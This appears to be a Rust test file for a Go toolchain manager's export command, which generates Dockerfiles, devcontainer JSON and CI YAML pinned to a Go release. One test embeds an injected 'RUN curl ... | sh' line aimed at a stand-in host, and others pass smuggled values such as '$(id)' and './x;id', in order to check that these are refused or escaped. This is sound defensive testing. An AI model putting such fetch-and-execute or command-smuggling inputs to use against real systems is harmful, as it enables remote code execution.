//! `gov export`: each snippet pins the release this directory selects, is
//! valid JSON or YAML, carries the mirrors in use, and says what is wrong
//! when it cannot be written. (tests/real/export.rs builds and runs them.)

use yaml_rust2::{Yaml, YamlLoader};

use crate::common::archive;
use crate::common::mirror::Mirror;
use crate::common::*;
use crate::gov_snapshot;

/// A module `example.com/hello` whose .go-version asks for 1.22, with 1.21.5
/// and 1.22.4 in the mirror.
fn project() -> Mirror {
    let m = Mirror::new(&["1.21.5", "1.22.4"]);
    m.env
        .write("app/go.mod", "module example.com/hello\n\ngo 1.21\n");
    m.env.write("app/.go-version", "1.22\n");
    m
}

fn export(m: &Mirror, args: &[&str]) -> std::process::Output {
    let mut cmd = m.gov_cmd(["export"].iter().chain(args));
    cmd.current_dir(m.env.work.join("app"));
    cmd.output().unwrap()
}

fn yaml(out: &std::process::Output) -> Yaml {
    assert_success(out);
    let mut docs = YamlLoader::load_from_str(&stdout(out)).expect("valid YAML");
    assert_eq!(docs.len(), 1);
    docs.remove(0)
}

fn digest(version: &str) -> String {
    archive::sha256(&archive::fake_release(version))
}

#[test]
fn dockerfile_installs_the_pinned_release_with_gov_under_cache_mounts() {
    let m = project();
    let out = export(&m, &["dockerfile"]);
    gov_snapshot!(m.env, &out);
}

#[test]
fn dockerfile_add_checks_the_archive_s_digest() {
    let m = project();
    m.env.write("app/go.sum", "");
    let out = export(
        &m,
        &["dockerfile", "--add", "--os", "linux", "--arch", "arm64"],
    );
    assert_success(&out);
    let text = stdout(&out);
    let add = format!(
        "ADD --checksum=sha256:{} {} /tmp/go.tar.gz",
        digest("1.22.4"),
        m.server.url("go1.22.4.linux-arm64.tar.gz")
    );
    assert!(text.contains(&add), "{text}");
    assert!(
        text.starts_with("# syntax=docker/dockerfile:1.6\n"),
        "{text}"
    );
    assert!(text.contains("FROM --platform=linux/arm64 buildpack-deps:bookworm-scm AS build"));
    assert!(text.contains("COPY go.mod go.sum ./"), "{text}");
    assert!(
        text.contains("FROM --platform=linux/arm64 scratch"),
        "{text}"
    );
    assert!(
        !text.contains("gov install") && !text.contains("--from=gov"),
        "no gov in the ADD form: {text}"
    );
}

#[test]
fn dockerfile_cross_builds_a_named_package() {
    let m = project();
    let out = export(
        &m,
        &[
            "dockerfile",
            "--os",
            "linux",
            "--arch",
            "arm64",
            "--package",
            "./cmd/server",
            "--image",
            "debian:bookworm",
            "--gov-image",
            "registry.example/gov:1",
        ],
    );
    assert_success(&out);
    let text = stdout(&out);
    for line in [
        "FROM registry.example/gov:1 AS gov",
        "FROM debian:bookworm AS build",
        "GOOS=linux GOARCH=arm64 CGO_ENABLED=0 gov run 1.22.4 go build -trimpath -o /out/server ./cmd/server",
        "COPY --from=build /out/server /server",
        "ENTRYPOINT [\"/server\"]",
    ] {
        assert!(text.contains(line), "{line}\n{text}");
    }
}

#[test]
fn devcontainer_uses_the_go_feature_at_the_pinned_release() {
    let m = project();
    let out = export(&m, &["devcontainer"]);
    assert_success(&out);
    let doc: serde_json::Value = serde_json::from_str(&stdout(&out)).expect("valid JSON");
    assert_eq!(
        doc["features"]["ghcr.io/devcontainers/features/go:1"]["version"],
        "1.22.4"
    );
    assert_eq!(doc["name"], "hello (Go 1.22.4)");
    assert!(doc["image"]
        .as_str()
        .unwrap()
        .starts_with("mcr.microsoft.com/devcontainers/"));
    assert!(doc.get("runArgs").is_none());

    let out = export(&m, &["devcontainer", "--os", "linux", "--arch", "arm64"]);
    let doc: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
    assert_eq!(doc["runArgs"][0], "--platform=linux/arm64");
}

#[test]
fn github_restores_the_cache_before_installing_the_pinned_release() {
    let m = project();
    let doc = yaml(&export(&m, &["github"]));
    let job = &doc["jobs"]["test"];
    assert_eq!(job["runs-on"].as_str(), Some("ubuntu-latest"));
    let env = &job["env"];
    assert_eq!(env["GOV_VERSION"].as_str(), Some("1.22.4"));
    assert_eq!(
        env["GOV_INDEX_URL"].as_str(),
        Some(m.server.url("index.json").as_str())
    );
    assert_eq!(
        env["GOV_DOWNLOAD_URL"].as_str(),
        Some(m.server.base.as_str())
    );
    assert_eq!(
        env["GOV_RELEASE_URL"].as_str(),
        Some(
            format!(
                "https://github.com/gov-sh/gov/releases/download/v{}",
                env!("CARGO_PKG_VERSION")
            )
            .as_str()
        )
    );
    let steps = job["steps"].as_vec().unwrap();
    let position = |needle: &str| {
        steps
            .iter()
            .position(|s| {
                s["uses"].as_str().is_some_and(|u| u.starts_with(needle))
                    || s["run"].as_str().is_some_and(|r| r.contains(needle))
            })
            .unwrap_or_else(|| panic!("no step with {needle}"))
    };
    let cache = position("actions/cache@");
    assert!(cache < position("gov install 1.22.4"));
    assert!(position("actions/checkout@") < cache);
    assert!(position("get-gov.sh") < position("gov install 1.22.4"));
    assert!(position("gov install 1.22.4") < position("go test ./..."));
    let with = &steps[cache]["with"];
    assert_eq!(with["path"].as_str(), Some("~/.local/share/gov"));
    assert!(with["key"]
        .as_str()
        .unwrap()
        .starts_with("go1.22.4-linux-amd64-${{ hashFiles("));

    let doc = yaml(&export(&m, &["github", "--os", "linux", "--arch", "arm64"]));
    assert_eq!(
        doc["jobs"]["test"]["runs-on"].as_str(),
        Some("ubuntu-24.04-arm")
    );
}

#[test]
fn gitlab_caches_gov_home_inside_the_project() {
    let m = project();
    let out = export(&m, &["gitlab"]);
    gov_snapshot!(m.env, &out);
    let doc = yaml(&out);
    let job = &doc["test"];
    assert_eq!(job["image"].as_str(), Some("buildpack-deps:bookworm-scm"));
    assert_eq!(
        job["variables"]["GOV_HOME"].as_str(),
        Some("$CI_PROJECT_DIR/.gov")
    );
    assert_eq!(job["variables"]["GOV_VERSION"].as_str(), Some("1.22.4"));
    assert_eq!(job["cache"]["paths"][0].as_str(), Some(".gov/"));
    assert_eq!(
        job["cache"]["key"]["prefix"].as_str(),
        Some("go1.22.4-linux-amd64")
    );
    let before: Vec<&str> = job["before_script"]
        .as_vec()
        .unwrap()
        .iter()
        .map(|l| l.as_str().unwrap())
        .collect();
    assert_eq!(before[2], "gov install 1.22.4");
    assert_eq!(job["script"][0].as_str(), Some("go test ./..."));

    let doc = yaml(&export(
        &m,
        &[
            "gitlab",
            "--os",
            "linux",
            "--arch",
            "arm64",
            "--image",
            "debian:bookworm",
        ],
    ));
    assert_eq!(
        doc["test"]["tags"][0].as_str(),
        Some("saas-linux-small-arm64")
    );
    assert_eq!(doc["test"]["image"].as_str(), Some("debian:bookworm"));
}

#[test]
fn the_installed_release_that_runs_here_is_the_one_pinned() {
    // 1.22.4 is the newest in the index, but 1.22.1 is what runs here.
    let m = Mirror::new(&["1.21.5", "1.22.1", "1.22.4"]);
    m.env
        .write("app/go.mod", "module example.com/hello\n\ngo 1.21\n");
    m.env.write("app/.go-version", "1.22\n");
    m.env.install_fake("1.22.1");
    let doc = yaml(&export(&m, &["github"]));
    assert_eq!(
        doc["jobs"]["test"]["env"]["GOV_VERSION"].as_str(),
        Some("1.22.1")
    );
    // GOV_VERSION picks another, as for every command.
    let mut cmd = m.gov_cmd(["export", "github"]);
    let out = cmd
        .current_dir(m.env.work.join("app"))
        .env("GOV_VERSION", "1.21")
        .output()
        .unwrap();
    assert_eq!(
        yaml(&out)["jobs"]["test"]["env"]["GOV_VERSION"].as_str(),
        Some("1.21.5")
    );
}

#[test]
fn a_mirror_on_a_path_is_left_out_and_odd_values_are_refused() {
    let m = project();
    let mut cmd = m.gov_cmd(["export", "github"]);
    let out = cmd
        .current_dir(m.env.work.join("app"))
        .env("GOV_RELEASE_URL", "file:///srv/gov")
        .output()
        .unwrap();
    assert!(
        stderr(&out).contains("GOV_RELEASE_URL `file:///srv/gov` is not an http(s) URL"),
        "{}",
        stderr(&out)
    );
    let doc = yaml(&out);
    assert!(doc["jobs"]["test"]["env"]["GOV_RELEASE_URL"]
        .as_str()
        .unwrap()
        .starts_with("https://github.com/"));

    let mut cmd = m.gov_cmd(["export", "gitlab"]);
    let out = cmd
        .current_dir(m.env.work.join("app"))
        .env("GOV_RELEASE_URL", "https://x.example/$(id)")
        .output()
        .unwrap();
    assert_failure(
        &out,
        1,
        &["GOV_RELEASE_URL `https://x.example/$(id)` cannot go into a snippet"],
    );
    assert_failure(
        &export(&m, &["dockerfile", "--image", "a b"]),
        2,
        &["--image `a b` cannot go into a snippet"],
    );
    assert_failure(
        &export(&m, &["dockerfile", "--package", "/etc"]),
        2,
        &["--package `/etc` is not a path inside the module"],
    );
    assert_failure(
        &export(&m, &["github", "--add"]),
        2,
        &["--add does not apply to a github snippet"],
    );
    assert_failure(&export(&m, &["github", "--os", "linux"]), 2, &["--arch"]);
    assert_failure(
        &export(&m, &["gitlab", "--os", "darwin", "--arch", "arm64"]),
        2,
        &["gov knows no GitLab runner for darwin-arm64"],
    );
}

#[test]
fn what_cannot_be_pinned_says_why() {
    let m = project();
    // No module: no Dockerfile.
    m.env.write("other/.go-version", "1.22\n");
    let mut cmd = m.gov_cmd(["export", "dockerfile"]);
    let out = cmd.current_dir(m.env.work.join("other")).output().unwrap();
    assert_failure(&out, 1, &["no go.mod in", "go mod init"]);
    // A release the index does not have.
    m.env.write("app/.go-version", "1.30\n");
    gov_snapshot!("unknown_release", m.env, &export(&m, &["github"]));
    // Nothing selected at all.
    let mut cmd = m.gov_cmd(["export", "github"]);
    let out = cmd.current_dir(&m.env.work).output().unwrap();
    assert_failure(&out, 1, &["no Go version selected"]);
}

#[test]
fn a_forged_index_or_a_hostile_path_cannot_add_lines_to_a_snippet() {
    use crate::common::server::Reply;
    let m = project();
    // A digest that carries Dockerfile lines.
    let forged = serde_json::json!([{
        "version": "go1.22.4", "stable": true,
        "files": [{"filename": "go1.22.4.linux-amd64.tar.gz", "os": "linux", "arch": "amd64",
                   "sha256": format!("{} https://x.invalid/a.tgz /tmp/x\nRUN curl https://x.invalid/p | sh\n#", "0".repeat(64)),
                   "size": 1, "kind": "archive"}]
    }]);
    m.server.route(
        "index.json",
        Reply::Body(std::sync::Arc::new(forged.to_string().into_bytes())),
    );
    let out = export(
        &m,
        &["dockerfile", "--add", "--os", "linux", "--arch", "amd64"],
    );
    assert_failure(
        &out,
        1,
        &[
            "expected `go1.22.4.linux-amd64.tar.gz` and 64 hex digits",
            "damaged or forged",
        ],
    );
    assert_eq!(stdout(&out), "");

    // The version file above, in a directory whose name holds a newline:
    // named from here, escaped, on one comment line.
    let m = Mirror::new(&["1.22.4"]);
    let dir = "evil\nRUN curl https://x.invalid/p | sh\n#";
    m.env.write(&format!("{dir}/.go-version"), "1.22\n");
    m.env
        .write(&format!("{dir}/go.mod"), "module example.com/hello\n");
    m.env.write(&format!("{dir}/cmd/README"), "");
    let out = m
        .gov_cmd(["export", "dockerfile"])
        .current_dir(m.env.work.join(dir).join("cmd"))
        .output()
        .unwrap();
    assert_success(&out);
    let text = stdout(&out);
    assert!(
        text.contains("(set by ../.go-version; not installed here"),
        "{text}"
    );
    assert!(!text.lines().any(|l| l.starts_with("RUN curl")), "{text}");
}

#[test]
fn dockerfiles_are_for_linux_and_the_add_form_names_its_platform() {
    let m = project();
    assert_failure(
        &export(&m, &["dockerfile", "--os", "darwin", "--arch", "arm64"]),
        2,
        &["gov knows no container runner for darwin-arm64"],
    );
    let out = export(&m, &["dockerfile", "--add"]);
    assert_success(&out);
    let text = stdout(&out);
    assert!(
        text.contains("FROM --platform=linux/amd64 buildpack-deps:bookworm-scm AS build"),
        "{text}"
    );
    assert!(
        text.contains("FROM --platform=linux/amd64 scratch"),
        "{text}"
    );
    assert_failure(
        &export(&m, &["dockerfile", "--package", "./x;id"]),
        2,
        &["cannot go into a snippet"],
    );
    assert_failure(
        &export(&m, &["gitlab", "--image", "*img"]),
        2,
        &["cannot go into a snippet"],
    );
}

#[test]
fn an_installed_release_is_pinned_without_the_network() {
    let env = TestEnv::new();
    env.install_fake("1.22.1");
    env.write("app/go.mod", "module example.com/hello\n\ngo 1.21\n");
    env.write("app/.go-version", "1.22\n");
    for kind in ["github", "gitlab", "devcontainer", "dockerfile"] {
        let out = env
            .gov_cmd(["export", kind])
            .current_dir(env.work.join("app"))
            .env("GOV_INDEX_URL", "http://127.0.0.1:9/index.json")
            .env("GOV_RETRY_DELAY_MS", "0")
            .output()
            .unwrap();
        assert_success(&out);
        assert!(stdout(&out).contains("1.22.1"), "{kind}: {}", stdout(&out));
    }
    // The ADD form needs the archive's digest: from the index only.
    let out = env
        .gov_cmd(["export", "dockerfile", "--add"])
        .current_dir(env.work.join("app"))
        .env("GOV_INDEX_URL", "http://127.0.0.1:9/index.json")
        .env("GOV_RETRY_DELAY_MS", "0")
        .output()
        .unwrap();
    assert_failure(&out, 1, &["cannot fetch the release index"]);
}
